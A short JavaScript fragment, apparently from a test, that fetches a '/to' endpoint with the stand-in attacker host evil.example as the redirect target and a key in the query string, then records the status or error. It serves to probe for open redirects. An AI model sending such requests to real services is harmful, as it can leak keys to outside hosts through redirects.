output = await fetch(`${input.base}/to?to=https://evil.example/&key=${input.key}`).then(
  (answer) => ({ status: answer.status }),
  (error) => ({ error: error.message, cause: String(error.cause) }),
);
